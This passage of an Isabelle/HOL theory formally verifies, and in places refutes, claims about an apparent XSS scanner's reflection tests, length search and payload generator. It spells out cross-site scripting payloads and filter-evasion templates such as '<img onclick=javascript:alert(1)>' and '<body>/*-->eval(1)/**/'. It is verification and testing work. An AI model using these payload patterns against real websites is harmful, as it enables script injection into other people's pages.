  assumes "0 < n" "i < len"
  shows "i div n < (len + n - 1) div n"
proof -
  have "i div n * n \<le> i" by simp
  with assms(2) have "i div n * n + n \<le> len + n - 1" by linarith
  then have "(i div n + 1) * n \<le> len + n - 1" by (simp add: algebra_simps)
  then have "i div n + 1 \<le> (len + n - 1) div n"
    using assms(1) by (metis div_le_mono div_mult_self_is_m)
  then show ?thesis by simp
qed

lemma in_char_batches:
  "x \<in> \<Union> (set ` set (char_batches n s))
     \<longleftrightarrow> (\<exists>k < (length s + n - 1) div n. x \<in> set (take n (drop (k * n) s)))"
  unfolding char_batches_def by auto

lemma set_char_batches:
  assumes "0 < n"
  shows "\<Union> (set ` set (char_batches n s)) = set s"
proof (rule set_eqI)
  fix x
  show "x \<in> \<Union> (set ` set (char_batches n s)) \<longleftrightarrow> x \<in> set s"
  proof
    assume "x \<in> \<Union> (set ` set (char_batches n s))"
    then obtain k where "x \<in> set (take n (drop (k * n) s))"
      unfolding in_char_batches by blast
    then have "x \<in> set (drop (k * n) s)" by (rule in_set_takeD)
    then show "x \<in> set s" by (rule in_set_dropD)
  next
    assume "x \<in> set s"
    then obtain i where i: "i < length s" "s ! i = x" unfolding in_set_conv_nth by blast
    define k where "k = i div n"
    define j where "j = i mod n"
    have k: "k < (length s + n - 1) div n"
      unfolding k_def using assms i(1) by (rule char_batches_index_bound)
    have m: "j < n" unfolding j_def using assms by simp
    have e: "k * n + j = i" unfolding k_def j_def by simp
    have kn: "k * n \<le> length s" using i(1) e by linarith
    have l: "j < length (drop (k * n) s)" using i(1) e by (simp add: less_diff_conv)
    have "drop (k * n) s ! j = s ! (k * n + j)"
      using kn by (rule nth_drop)
    then have d: "drop (k * n) s ! j = x" using e i(2) by simp
    have t: "take n (drop (k * n) s) ! j = x"
      using m d by simp
    have "j < length (take n (drop (k * n) s))"
      using m l by simp
    then have "take n (drop (k * n) s) ! j \<in> set (take n (drop (k * n) s))"
      by (rule nth_mem)
    with t have "x \<in> set (take n (drop (k * n) s))" by simp
    with k show "x \<in> \<Union> (set ` set (char_batches n s))"
      unfolding in_char_batches by blast
  qed
qed

lemma char_batches_ex:
  "(\<exists>batch\<in>set (char_batches 20 cs). \<exists>c\<in>set batch. P c) = (\<exists>c\<in>set cs. P c)"
proof -
  have "(\<exists>batch\<in>set (char_batches 20 cs). \<exists>c\<in>set batch. P c)
        = (\<exists>c\<in>\<Union> (set ` set (char_batches 20 cs)). P c)"
    by blast
  also have "\<Union> (set ` set (char_batches 20 cs)) = set cs"
    by (rule set_char_batches) simp
  finally show ?thesis .
qed

text \<open>
  What \<^verbatim>\<open>test_chars_batch\<close> computes: it is true exactly when the client session opens
  and some single character of its argument, doubled, is reflected. The cache and the
  division into batches do not change the verdict.
\<close>

lemma test_chars_batch_eq:
  "test_chars_batch w u p cs
     = (client_session w u p = None \<and> (\<exists>c\<in>set cs. doubled_reflected w u p [c]))"
proof (cases "client_session w u p")
  case None
  have "test_chars_batch w u p cs
      = test_batches w u p (char_batches 20 cs) (CacheManager_init default_ttl, 0)"
    using None by (simp add: test_chars_batch_def)
  also have "\<dots> = (\<exists>batch\<in>set (char_batches 20 cs). \<exists>c\<in>set batch. doubled_reflected w u p [c])"
    by (rule test_batches_eq [OF cache_sound_init])
  also have "\<dots> = (\<exists>c\<in>set cs. doubled_reflected w u p [c])"
    by (rule char_batches_ex)
  finally show ?thesis using None by simp
next
  case (Some e)
  then show ?thesis by (simp add: test_chars_batch_def)
qed

lemma first_allowed_eq:
  "first_allowed w u p payloads
     = (\<exists>payload\<in>set payloads. test_chars_batch w u p payload)"
  by (induction payloads) simp_all

lemma quick_test_scripts_eq:
  "quick_test_scripts w u p
     = (client_session w u p = None
        \<and> (\<exists>payload\<in>set script_test_payloads. \<exists>c\<in>set payload. doubled_reflected w u p [c]))"
  unfolding quick_test_scripts_def first_allowed_eq test_chars_batch_eq by blast

lemma quick_test_events_eq:
  "quick_test_events w u p
     = (client_session w u p = None
        \<and> (\<exists>payload\<in>set event_test_payloads. \<exists>c\<in>set payload. doubled_reflected w u p [c]))"
  unfolding quick_test_events_def first_allowed_eq test_chars_batch_eq by blast

lemma lowercase_echo_reflected:
  "doubled_reflected lowercase_echo u p s = (s \<noteq> [] \<and> list_all (\<lambda>c. 97 \<le> c \<and> c \<le> 122) s \<or> s = [])"
  by (auto simp: doubled_reflected_def lowercase_echo_def str_in_refl)

lemma long_echo_reflected:
  "doubled_reflected long_echo u p s = (2 \<le> length s \<or> s = [])"
  by (auto simp: doubled_reflected_def long_echo_def str_in_refl)

lemma lowercase_echo_verbatim:
  "reflected_verbatim lowercase_echo u p s = (list_all (\<lambda>c. 97 \<le> c \<and> c \<le> 122) s \<or> s = [])"
  by (auto simp: reflected_verbatim_def lowercase_echo_def str_in_refl)

lemma long_echo_verbatim:
  "reflected_verbatim long_echo u p s = (4 \<le> length s \<or> s = [])"
  by (auto simp: reflected_verbatim_def long_echo_def str_in_refl)

text \<open>
  Claim C1. The claim reads: a quick test is true exactly when one of its listed strings
  is reflected. The code hands each string to \<^verbatim>\<open>test_chars_batch\<close>, which probes the
  characters of the string one by one. On the server that echoes only lower-case
  words both quick tests are true although none of their strings is reflected (neither
  as it is nor doubled); on the server that echoes only values of four characters or
  more every listed string is reflected and both quick tests are false.
\<close>

theorem C1_quick_tests_probe_single_characters:
  "quick_test_scripts lowercase_echo u p
   \<and> \<not> list_ex (reflected_verbatim lowercase_echo u p) script_test_payloads
   \<and> \<not> list_ex (doubled_reflected lowercase_echo u p) script_test_payloads
   \<and> quick_test_events lowercase_echo u p
   \<and> \<not> list_ex (reflected_verbatim lowercase_echo u p) event_test_payloads
   \<and> \<not> list_ex (doubled_reflected lowercase_echo u p) event_test_payloads
   \<and> \<not> quick_test_scripts long_echo u p
   \<and> list_all (reflected_verbatim long_echo u p) script_test_payloads
   \<and> list_all (doubled_reflected long_echo u p) script_test_payloads
   \<and> \<not> quick_test_events long_echo u p
   \<and> list_all (reflected_verbatim long_echo u p) event_test_payloads
   \<and> list_all (doubled_reflected long_echo u p) event_test_payloads"
proof -
  have s1: "quick_test_scripts lowercase_echo u p"
    unfolding quick_test_scripts_eq
    by (simp add: lowercase_echo_reflected script_test_payloads_def py_def) (simp add: lowercase_echo_def)
  have s2: "\<not> list_ex (reflected_verbatim lowercase_echo u p) script_test_payloads"
    by (simp add: lowercase_echo_verbatim script_test_payloads_def py_def)
  have s3: "\<not> list_ex (doubled_reflected lowercase_echo u p) script_test_payloads"
    by (simp add: lowercase_echo_reflected script_test_payloads_def py_def)
  have e1: "quick_test_events lowercase_echo u p"
    unfolding quick_test_events_eq
    by (simp add: lowercase_echo_reflected event_test_payloads_def py_def) (simp add: lowercase_echo_def)
  have e2: "\<not> list_ex (reflected_verbatim lowercase_echo u p) event_test_payloads"
    by (simp add: lowercase_echo_verbatim event_test_payloads_def py_def)
  have e3: "\<not> list_ex (doubled_reflected lowercase_echo u p) event_test_payloads"
    by (simp add: lowercase_echo_reflected event_test_payloads_def py_def)
  have l1: "\<not> quick_test_scripts long_echo u p"
    unfolding quick_test_scripts_eq by (simp add: long_echo_reflected)
  have l2: "list_all (reflected_verbatim long_echo u p) script_test_payloads"
    by (simp add: long_echo_verbatim script_test_payloads_def py_def)
  have l3: "list_all (doubled_reflected long_echo u p) script_test_payloads"
    by (simp add: long_echo_reflected script_test_payloads_def py_def)
  have l4: "\<not> quick_test_events long_echo u p"
    unfolding quick_test_events_eq by (simp add: long_echo_reflected)
  have l5: "list_all (reflected_verbatim long_echo u p) event_test_payloads"
    by (simp add: long_echo_verbatim event_test_payloads_def py_def)
  have l6: "list_all (doubled_reflected long_echo u p) event_test_payloads"
    by (simp add: long_echo_reflected event_test_payloads_def py_def)
  from s1 s2 s3 e1 e2 e3 l1 l2 l3 l4 l5 l6 show ?thesis by blast
qed

section \<open>The length search\<close>

lemma quick_test_length_loop_boundary:
  "(\<forall>m. left \<le> m \<and> m \<le> right \<longrightarrow> allowed m = (m \<le> L)) \<Longrightarrow> left \<le> right + 1
     \<Longrightarrow> quick_test_length_loop allowed left right = max (left - 1) (min L right)"
proof (induction allowed left right rule: quick_test_length_loop.induct)
  case (1 allowed left right)
  let ?mid = "(left + right) div 2"
  show ?case
  proof (cases "left \<le> right")
    case False
    with "1.prems"(2) have "right = left - 1" by linarith
    with False show ?thesis by (simp add: quick_test_length_loop.simps [of allowed left right])
  next
    case le: True
    then have mid: "left \<le> ?mid" "?mid \<le> right" by linarith+
    with "1.prems"(1) have am: "allowed ?mid = (?mid \<le> L)" by blast
    show ?thesis
    proof (cases "allowed ?mid")
      case True
      have sub: "\<forall>m. ?mid + 1 \<le> m \<and> m \<le> right \<longrightarrow> allowed m = (m \<le> L)"
        using "1.prems"(1) mid(1) by auto
      have "?mid + 1 \<le> right + 1" using mid(2) by simp
      from "1.IH"(1) [OF le True sub this]
      have "quick_test_length_loop allowed (?mid + 1) right = max (?mid + 1 - 1) (min L right)" .
      also have "\<dots> = max (left - 1) (min L right)"
        using True am mid by linarith
      finally show ?thesis
        using le True by (simp add: quick_test_length_loop.simps [of allowed left right])
    next
      case False
      have sub: "\<forall>m. left \<le> m \<and> m \<le> ?mid - 1 \<longrightarrow> allowed m = (m \<le> L)"
        using "1.prems"(1) mid(2) by auto
      have "left \<le> ?mid - 1 + 1" using mid(1) by simp
      from "1.IH"(2) [OF le False sub this]
      have "quick_test_length_loop allowed left (?mid - 1) = max (left - 1) (min L (?mid - 1))" .
      also have "\<dots> = max (left - 1) (min L right)"
        using False am mid by linarith
      finally show ?thesis
        using le False by (simp add: quick_test_length_loop.simps [of allowed left right])
    qed
  qed
qed

text \<open>
  For an oracle that accepts exactly the lengths up to \<open>L\<close> within the searched range,
  the search returns \<open>L\<close> cut to the interval from 9 to 5000: \<open>L\<close> itself when
  \<open>10 \<le> L \<le> 5000\<close>, and 9 when \<open>L < 10\<close>.
\<close>

lemma quick_test_length_with_boundary:
  assumes "\<forall>m. 10 \<le> m \<and> m \<le> 5000 \<longrightarrow> allowed m = (m \<le> L)"
  shows "quick_test_length_with allowed = Some (max 9 (min L 5000))"
proof -
  have "quick_test_length_loop allowed 10 5000 = max (10 - 1) (min L 5000)"
    using assms by (intro quick_test_length_loop_boundary) simp_all
  then show ?thesis by (simp add: quick_test_length_with_def)
qed

lemma quick_test_length_loop_range:
  "left \<le> right + 1 \<Longrightarrow> left - 1 \<le> quick_test_length_loop allowed left right
     \<and> quick_test_length_loop allowed left right \<le> right"
proof (induction allowed left right rule: quick_test_length_loop.induct)
  case (1 allowed left right)
  let ?mid = "(left + right) div 2"
  show ?case
  proof (cases "left \<le> right")
    case False
    with "1.prems" show ?thesis by (simp add: quick_test_length_loop.simps [of allowed left right])
  next
    case le: True
    show ?thesis
    proof (cases "allowed ?mid")
      case True
      from le have "?mid + 1 \<le> right + 1" by linarith
      from "1.IH"(1) [OF le True this]
      have "?mid + 1 - 1 \<le> quick_test_length_loop allowed (?mid + 1) right
         \<and> quick_test_length_loop allowed (?mid + 1) right \<le> right" .
      moreover have "left \<le> ?mid" using le by linarith
      ultimately show ?thesis
        using le True by (simp add: quick_test_length_loop.simps [of allowed left right])
    next
      case False
      from le have "left \<le> ?mid - 1 + 1" by linarith
      from "1.IH"(2) [OF le False this]
      have "left - 1 \<le> quick_test_length_loop allowed left (?mid - 1)
         \<and> quick_test_length_loop allowed left (?mid - 1) \<le> ?mid - 1" .
      moreover have "?mid \<le> right" using le by linarith
      ultimately show ?thesis
        using le False by (simp add: quick_test_length_loop.simps [of allowed left right])
    qed
  qed
qed

lemma quick_test_length_with_never_None: "quick_test_length_with allowed \<noteq> None"
proof -
  have "10 - 1 \<le> quick_test_length_loop allowed 10 5000"
    using quick_test_length_loop_range [of 10 5000 allowed] by simp
  then show ?thesis by (simp add: quick_test_length_with_def)
qed

lemma length_probe_eq:
  "length_probe w u p mid
     = (client_session w u p = None \<and> 0 < mid \<and> doubled_reflected w u p [65])"
  by (auto simp: length_probe_def test_chars_batch_eq)

text \<open>
  Claim C2. The claim reads: for an oracle that accepts exactly the lengths up to \<open>L\<close>
  the search returns \<open>L\<close> when \<open>10 \<le> L \<le> 5000\<close> and nothing when \<open>L < 10\<close>. The
  search always returns a number: 9 when the oracle accepts no length of the range (at
  boundary 5, for the oracle that rejects everything, on the silent server, and on the
  server that echoes lower-case words, where the initial sample is reflected and the search
  does run). On a server that echoes values of at most 100 characters it returns 5000,
  because the probe of \<^verbatim>\<open>test_chars_batch\<close> sends two characters whatever the length
  under test.
\<close>

theorem C2_quick_test_length_never_absent:
  "quick_test_length_with (\<lambda>mid. mid \<le> 5) = Some 9
   \<and> quick_test_length_with (\<lambda>mid. False) = Some 9
   \<and> quick_test_length silent_server u p = Some 9
   \<and> quick_test_length lowercase_echo u p = Some 9
   \<and> quick_test_length (length_limited 100) u p = Some 5000
   \<and> quick_test_length_with allowed \<noteq> None"
proof -
  have 1: "quick_test_length_with (\<lambda>mid. mid \<le> 5) = Some 9"
    using quick_test_length_with_boundary [of "\<lambda>m. m \<le> 5" 5] by simp
  have 2: "quick_test_length_with (\<lambda>mid. False) = Some 9"
    using quick_test_length_with_boundary [of "\<lambda>m. False" 0] by simp
  have "\<forall>m. 10 \<le> m \<and> m \<le> 5000 \<longrightarrow> length_probe silent_server u p m = (m \<le> 0)"
    by (simp add: length_probe_eq doubled_reflected_def silent_server_def)
  from quick_test_length_with_boundary [OF this]
  have 3: "quick_test_length silent_server u p = Some 9" by (simp add: quick_test_length_def)
  have "\<forall>m. 10 \<le> m \<and> m \<le> 5000 \<longrightarrow> length_probe (length_limited 100) u p m = (m \<le> 5000)"
    by (simp add: length_probe_eq doubled_reflected_def length_limited_def)
  from quick_test_length_with_boundary [OF this]
  have 4: "quick_test_length (length_limited 100) u p = Some 5000" by (simp add: quick_test_length_def)
  have "\<forall>m. 10 \<le> m \<and> m \<le> 5000 \<longrightarrow> length_probe lowercase_echo u p m = (m \<le> 0)"
    by (simp add: length_probe_eq lowercase_echo_reflected)
  from quick_test_length_with_boundary [OF this]
  have 5: "quick_test_length lowercase_echo u p = Some 9" by (simp add: quick_test_length_def)
  from 1 2 3 4 5 quick_test_length_with_never_None show ?thesis by blast
qed

section \<open>Payload synthesis\<close>

lemma generate_payloads_list:
  "generate_payloads a
     = set (filter (final_filter a) (filter (length_filter a) (predefined_updates a @ dynamic_updates a)))"
  by (auto simp: generate_payloads_def get_predefined_payloads_def generate_dynamic_payloads_def)

lemma generate_payloads_subset:
  "generate_payloads a \<subseteq> get_predefined_payloads a \<union> generate_dynamic_payloads a"
  by (auto simp: generate_payloads_def)

lemma finite_generate_payloads: "finite (generate_payloads a)"
  by (simp add: generate_payloads_list)

lemma no_angles_predefined:
  "\<not> allows_angles a \<Longrightarrow> predefined_updates a = encoded_family"
  by (simp add: predefined_updates_def)

lemma no_angles_dynamic:
  "\<not> allows_angles a \<Longrightarrow> set (dynamic_updates a) \<subseteq> set proto_evasions"
  by (auto simp: dynamic_updates_def)

lemma encoded_family_no_angle: "\<forall>payload\<in>set encoded_family. 60 \<notin> set payload"
  by (simp add: encoded_family_def py_def)

lemma proto_evasions_no_angle: "\<forall>payload\<in>set proto_evasions. 60 \<notin> set payload"
  by (simp add: proto_evasions_def py_def)

text \<open>
  Claim C5. For every profile with \<^verbatim>\<open>allows_angles\<close> false, no payload that
  \<^verbatim>\<open>generate_payloads\<close> returns contains the character \<^verbatim>\<open><\<close> (code point 60).
\<close>

theorem C5_no_angle_bracket_payloads:
  assumes "\<not> allows_angles a" and "payload \<in> generate_payloads a"
  shows "\<not> str_in (py ''<'') payload \<and> 60 \<notin> set payload"
proof -
  from assms(2) generate_payloads_subset
  have "payload \<in> set (predefined_updates a) \<or> payload \<in> set (dynamic_updates a)"
    by (auto simp: get_predefined_payloads_def generate_dynamic_payloads_def)
  then have "60 \<notin> set payload"
  proof
    assume "payload \<in> set (predefined_updates a)"
    with assms(1) have "payload \<in> set encoded_family" by (simp add: no_angles_predefined)
    with encoded_family_no_angle show ?thesis by blast
  next
    assume "payload \<in> set (dynamic_updates a)"
    with no_angles_dynamic [OF assms(1)] have "payload \<in> set proto_evasions" by blast
    with proto_evasions_no_angle show ?thesis by blast
  qed
  moreover have "py ''<'' = [60]" by (simp add: py_def)
  ultimately show ?thesis by (simp add: str_in_single)
qed

lemma encoded_family_distinct: "distinct encoded_family \<and> length encoded_family = 6"
  by (simp add: encoded_family_def py_def)

lemma encoded_family_nonempty: "encoded_family \<noteq> []"
  by (simp add: encoded_family_def)

lemma encoded_family_not_blank: "\<forall>payload\<in>set encoded_family. strip payload \<noteq> []"
  by (simp add: encoded_family_def py_def strip_def isspace_def)

lemma no_reflection_profile_param: "param (no_reflection_profile u p) = p"
  by (simp add: no_reflection_profile_def)

lemma tag_payloads_D:
  assumes "payload \<in> set (tag_payloads a)"
  shows "\<exists>tag\<in>set base_tags. \<exists>mutated_tag\<in>set (tag_mutations_get tag). \<exists>func\<in>set js_functions.
           all_allowed a tag \<and> all_allowed a mutated_tag \<and> all_allowed a func
           \<and> (py ''*'' \<in> allowed_chars a \<and> py ''/'' \<in> allowed_chars a
                 \<and> payload \<in> set (comment_variants mutated_tag func)
               \<or> [0] \<in> allowed_chars a \<and> payload \<in> set (null_variants tag func))"
  using assms unfolding tag_payloads_def
  by (auto split: if_splits)

lemma event_payloads_D:
  assumes "payload \<in> set (event_payloads a)"
  shows "py ''='' \<in> allowed_chars a
         \<and> (\<exists>tag\<in>set [py ''img'', py ''svg'', py ''iframe'']. \<exists>event\<in>set event_handlers.
              \<exists>ev\<in>set (event_mutations_get event).
                all_allowed a tag \<and> all_allowed a ev \<and> payload \<in> set (event_variants a tag ev))"
  using assms unfolding event_payloads_def
  by (auto split: if_splits)

lemma event_variants_D:
  assumes "payload \<in> set (event_variants a tag ev)"
  shows "allows_quotes a
           \<and> payload = py ''<'' @ tag @ py '' data-'' @ ev @ py ''='' @ [34] @ py ''alert(1)'' @ [34] @ py ''>''
         \<or> py '':'' \<in> allowed_chars a
           \<and> payload = py ''<'' @ tag @ py '' '' @ ev @ py ''=javascript:alert(1)>''
         \<or> py ''&'' \<in> allowed_chars a \<and> py '';'' \<in> allowed_chars a
           \<and> payload = py ''<'' @ tag @ py '' '' @ ev @ py ''=&quot;alert(1)&quot;>''"
  using assms unfolding event_variants_def
  by (auto split: if_splits)

lemma tag_payloads_I:
  assumes "tag \<in> set base_tags" "mutated_tag \<in> set (tag_mutations_get tag)" "func \<in> set js_functions"
    "all_allowed a tag" "all_allowed a mutated_tag" "all_allowed a func"
    "py ''*'' \<in> allowed_chars a \<and> py ''/'' \<in> allowed_chars a
                 \<and> payload \<in> set (comment_variants mutated_tag func)
               \<or> [0] \<in> allowed_chars a \<and> payload \<in> set (null_variants tag func)"
  shows "payload \<in> set (tag_payloads a)"
  using assms unfolding tag_payloads_def
  by (auto split: if_splits)

lemma event_payloads_I:
  assumes "py ''='' \<in> allowed_chars a" "tag \<in> set [py ''img'', py ''svg'', py ''iframe'']"
    "event \<in> set event_handlers" "ev \<in> set (event_mutations_get event)"
    "all_allowed a tag" "all_allowed a ev" "payload \<in> set (event_variants a tag ev)"
  shows "payload \<in> set (event_payloads a)"
  using assms unfolding event_payloads_def
  by (auto split: if_splits)

lemma generate_dynamic_payloads_iff:
  "payload \<in> generate_dynamic_payloads a \<longleftrightarrow>
     (allows_angles a \<and> py ''<'' \<in> allowed_chars a \<and> py ''>'' \<in> allowed_chars a
        \<and> (\<exists>tag\<in>set base_tags. \<exists>mutated_tag\<in>set (tag_mutations_get tag). \<exists>func\<in>set js_functions.
              all_allowed a tag \<and> all_allowed a mutated_tag \<and> all_allowed a func
              \<and> (py ''*'' \<in> allowed_chars a \<and> py ''/'' \<in> allowed_chars a
                    \<and> payload \<in> set (comment_variants mutated_tag func)
                  \<or> [0] \<in> allowed_chars a \<and> payload \<in> set (null_variants tag func))))
     \<or> (allows_angles a \<and> py ''<'' \<in> allowed_chars a \<and> py ''>'' \<in> allowed_chars a
        \<and> py ''='' \<in> allowed_chars a
        \<and> (\<exists>tag\<in>set [py ''img'', py ''svg'', py ''iframe'']. \<exists>event\<in>set event_handlers.
              \<exists>ev\<in>set (event_mutations_get event).
                all_allowed a tag \<and> all_allowed a ev \<and> payload \<in> set (event_variants a tag ev)))
     \<or> (allows_angles a \<and> allows_scripts a \<and> payload \<in> set dom_evasions \<and> all_allowed a payload)
     \<or> (all_allowed a (py ''javascript:'') \<and> payload \<in> set proto_evasions \<and> all_allowed a payload)"
  (is "?L \<longleftrightarrow> ?T \<or> ?E \<or> ?D \<or> ?P")
proof
  assume ?L
  then consider
      "allows_angles a \<and> py ''<'' \<in> allowed_chars a \<and> py ''>'' \<in> allowed_chars a"
      "payload \<in> set (tag_payloads a)"
    | "allows_angles a \<and> py ''<'' \<in> allowed_chars a \<and> py ''>'' \<in> allowed_chars a"
      "payload \<in> set (event_payloads a)"
    | ?D | ?P
    by (auto simp: generate_dynamic_payloads_def dynamic_updates_def split: if_splits)
  then show "?T \<or> ?E \<or> ?D \<or> ?P"
  proof cases
    case 1
    with tag_payloads_D [OF 1(2)] show ?thesis by blast
  next
    case 2
    with event_payloads_D [OF 2(2)] show ?thesis by blast
  next
    case 3
    then show ?thesis by blast
  next
    case 4
    then show ?thesis by blast
  qed
next
  assume r: "?T \<or> ?E \<or> ?D \<or> ?P"
  then consider ?T | ?E | ?D | ?P by blast
  then show ?L
  proof cases
    case 1
    then have "payload \<in> set (tag_payloads a)" by (blast intro: tag_payloads_I)
    with 1 show ?thesis by (simp add: generate_dynamic_payloads_def dynamic_updates_def)
  next
    case 2
    then have "payload \<in> set (event_payloads a)" by (blast intro: event_payloads_I)
    with 2 show ?thesis by (simp add: generate_dynamic_payloads_def dynamic_updates_def)
  next
    case 3
    then show ?thesis by (simp add: generate_dynamic_payloads_def dynamic_updates_def)
  next
    case 4
    then show ?thesis by (simp add: generate_dynamic_payloads_def dynamic_updates_def)
  qed
qed

text \<open>
  Claim C6, as amended. For every profile, the dynamic generator emits a string only in
  one of four cases. (1) Angle brackets are allowed, and for a base tag, one of its
  mutations and a function name, every character of the tag, of the mutation and of the
  function name is allowed, and either \<^verbatim>\<open>*\<close> and \<^verbatim>\<open>/\<close> are allowed and the string is
  one of the three comment variants of the mutation, or the null byte is allowed and the
  string is one of the two null-byte variants of the tag. (2) Angle brackets and \<^verbatim>\<open>=\<close>
  are allowed, and for one of the tags img, svg, iframe and a variant of an event handler,
  every character of the tag and of the variant is allowed, and the string is the
  data-attribute variant with quotes allowed, the \<^verbatim>\<open>javascript:\<close> variant with \<^verbatim>\<open>:\<close>
  allowed, or the entity variant with \<^verbatim>\<open>&\<close> and \<^verbatim>\<open>;\<close> allowed. (3) and (4) The string is
  one of the fixed evasion strings and all its characters are allowed. The check of every
  character thus covers the tag, its mutation, the event-handler variant and the
  function name of the comment and null-byte variants; of the remaining literal
  characters of a template only those named above are tested.
\<close>

theorem C6_dynamic_generator_checks:
  assumes "payload \<in> generate_dynamic_payloads a"
  shows
    "(allows_angles a \<and> py ''<'' \<in> allowed_chars a \<and> py ''>'' \<in> allowed_chars a
        \<and> (\<exists>tag\<in>set base_tags. \<exists>mutated_tag\<in>set (tag_mutations_get tag). \<exists>func\<in>set js_functions.
              all_allowed a tag \<and> all_allowed a mutated_tag \<and> all_allowed a func
              \<and> (py ''*'' \<in> allowed_chars a \<and> py ''/'' \<in> allowed_chars a
                    \<and> payload \<in> set (comment_variants mutated_tag func)
                  \<or> [0] \<in> allowed_chars a \<and> payload \<in> set (null_variants tag func))))
     \<or> (allows_angles a \<and> py ''<'' \<in> allowed_chars a \<and> py ''>'' \<in> allowed_chars a
        \<and> py ''='' \<in> allowed_chars a
        \<and> (\<exists>tag\<in>set [py ''img'', py ''svg'', py ''iframe'']. \<exists>event\<in>set event_handlers.
              \<exists>ev\<in>set (event_mutations_get event).
                all_allowed a tag \<and> all_allowed a ev
                \<and> (allows_quotes a
                      \<and> payload = py ''<'' @ tag @ py '' data-'' @ ev @ py ''='' @ [34] @ py ''alert(1)'' @ [34] @ py ''>''
                    \<or> py '':'' \<in> allowed_chars a
                      \<and> payload = py ''<'' @ tag @ py '' '' @ ev @ py ''=javascript:alert(1)>''
                    \<or> py ''&'' \<in> allowed_chars a \<and> py '';'' \<in> allowed_chars a
                      \<and> payload = py ''<'' @ tag @ py '' '' @ ev @ py ''=&quot;alert(1)&quot;>'')))
     \<or> (allows_angles a \<and> allows_scripts a \<and> payload \<in> set dom_evasions \<and> all_allowed a payload)
     \<or> (all_allowed a (py ''javascript:'') \<and> payload \<in> set proto_evasions \<and> all_allowed a payload)"
proof -
  from assms generate_dynamic_payloads_iff [of payload a] consider
      "allows_angles a \<and> py ''<'' \<in> allowed_chars a \<and> py ''>'' \<in> allowed_chars a
        \<and> (\<exists>tag\<in>set base_tags. \<exists>mutated_tag\<in>set (tag_mutations_get tag). \<exists>func\<in>set js_functions.
              all_allowed a tag \<and> all_allowed a mutated_tag \<and> all_allowed a func
              \<and> (py ''*'' \<in> allowed_chars a \<and> py ''/'' \<in> allowed_chars a
                    \<and> payload \<in> set (comment_variants mutated_tag func)
                  \<or> [0] \<in> allowed_chars a \<and> payload \<in> set (null_variants tag func)))"
    | tag event ev where
      "allows_angles a" "py ''<'' \<in> allowed_chars a" "py ''>'' \<in> allowed_chars a"
      "py ''='' \<in> allowed_chars a"
      "tag \<in> set [py ''img'', py ''svg'', py ''iframe'']" "event \<in> set event_handlers"
      "ev \<in> set (event_mutations_get event)" "all_allowed a tag" "all_allowed a ev"
      "payload \<in> set (event_variants a tag ev)"
    | "allows_angles a \<and> allows_scripts a \<and> payload \<in> set dom_evasions \<and> all_allowed a payload"
    | "all_allowed a (py ''javascript:'') \<and> payload \<in> set proto_evasions \<and> all_allowed a payload"
    by blast
  then show ?thesis
  proof cases
    case 1
    then show ?thesis by blast
  next
    case 2
    from event_variants_D [OF 2(10)] 2(1-9) show ?thesis by blast
  next
    case 3
    then show ?thesis by blast
  next
    case 4
    then show ?thesis by blast
  qed
qed

lemma colon_profile_member:
  "py ''<img onclick=javascript:alert(1)>'' \<in> generate_dynamic_payloads colon_profile"
proof -
  have a: "py ''<'' \<in> allowed_chars colon_profile" "py ''>'' \<in> allowed_chars colon_profile"
    "py ''='' \<in> allowed_chars colon_profile" "py '':'' \<in> allowed_chars colon_profile"
    "allows_angles colon_profile"
    by (simp_all add: colon_profile_def chars_def py_def)
  have t: "all_allowed colon_profile (py ''img'')" "all_allowed colon_profile (py ''onclick'')"
    by (simp_all add: all_allowed_def colon_profile_def chars_def py_def)
  have v: "py ''<img onclick=javascript:alert(1)>'' \<in> set (event_variants colon_profile (py ''img'') (py ''onclick''))"
    using a(4) by (simp add: event_variants_def) (simp add: py_def)
  have e: "py ''onclick'' \<in> set event_handlers"
    "py ''onclick'' \<in> set (event_mutations_get (py ''onclick''))"
    by (simp_all add: event_handlers_def event_mutations_get_def py_def)
  have "py ''<img onclick=javascript:alert(1)>'' \<in> set (event_payloads colon_profile)"
    using a(3) _ e t v by (rule event_payloads_I) simp
  with a show ?thesis by (simp add: generate_dynamic_payloads_def dynamic_updates_def)
qed

lemma comment_profile_member:
  "py ''<body>/*-->eval(1)/**/'' \<in> generate_dynamic_payloads comment_profile"
proof -
  have a: "py ''<'' \<in> allowed_chars comment_profile" "py ''>'' \<in> allowed_chars comment_profile"
    "py ''*'' \<in> allowed_chars comment_profile" "py ''/'' \<in> allowed_chars comment_profile"
    "allows_angles comment_profile"
    by (simp_all add: comment_profile_def chars_def py_def)
  have t: "all_allowed comment_profile (py ''body'')" "all_allowed comment_profile (py ''eval'')"
    by (simp_all add: all_allowed_def comment_profile_def chars_def py_def)
  have v: "py ''<body>/*-->eval(1)/**/'' \<in> set (comment_variants (py ''body'') (py ''eval''))"
    by (simp add: comment_variants_def py_def)
  have e: "py ''body'' \<in> set base_tags" "py ''body'' \<in> set (tag_mutations_get (py ''body''))"
    "py ''eval'' \<in> set js_functions"
    by (simp_all add: base_tags_def tag_mutations_get_def js_functions_def py_def)
  have "py ''<body>/*-->eval(1)/**/'' \<in> set (tag_payloads comment_profile)"
    using e t(1) t(1) t(2) by (rule tag_payloads_I) (simp add: a v)
  with a show ?thesis by (simp add: generate_dynamic_payloads_def dynamic_updates_def)
qed

lemma not_allowed_facts:
  "\<not> all_allowed colon_profile (py ''alert'')" "py '' '' \<notin> allowed_chars colon_profile"
  "py ''-'' \<notin> allowed_chars comment_profile" "py ''('' \<notin> allowed_chars comment_profile"
  by (simp_all add: all_allowed_def colon_profile_def comment_profile_def chars_def py_def)

theorem C6_counterexample:
  "py ''<img onclick=javascript:alert(1)>'' \<in> generate_dynamic_payloads colon_profile
   \<and> \<not> all_allowed colon_profile (py ''alert'')
   \<and> py '' '' \<notin> allowed_chars colon_profile
   \<and> py ''<body>/*-->eval(1)/**/'' \<in> generate_dynamic_payloads comment_profile
   \<and> py ''-'' \<notin> allowed_chars comment_profile
   \<and> py ''('' \<notin> allowed_chars comment_profile"
  using colon_profile_member comment_profile_member not_allowed_facts by simp

theorem C6_dynamic_generator_checks_witness:
  "py ''<img onclick=javascript:alert(1)>'' \<in> generate_dynamic_payloads colon_profile
   \<and> allows_angles colon_profile
   \<and> py ''<'' \<in> allowed_chars colon_profile \<and> py ''>'' \<in> allowed_chars colon_profile
   \<and> py ''='' \<in> allowed_chars colon_profile
   \<and> (\<exists>tag\<in>set [py ''img'', py ''svg'', py ''iframe'']. \<exists>event\<in>set event_handlers.
         \<exists>ev\<in>set (event_mutations_get event).
           all_allowed colon_profile tag \<and> all_allowed colon_profile ev)"
proof -
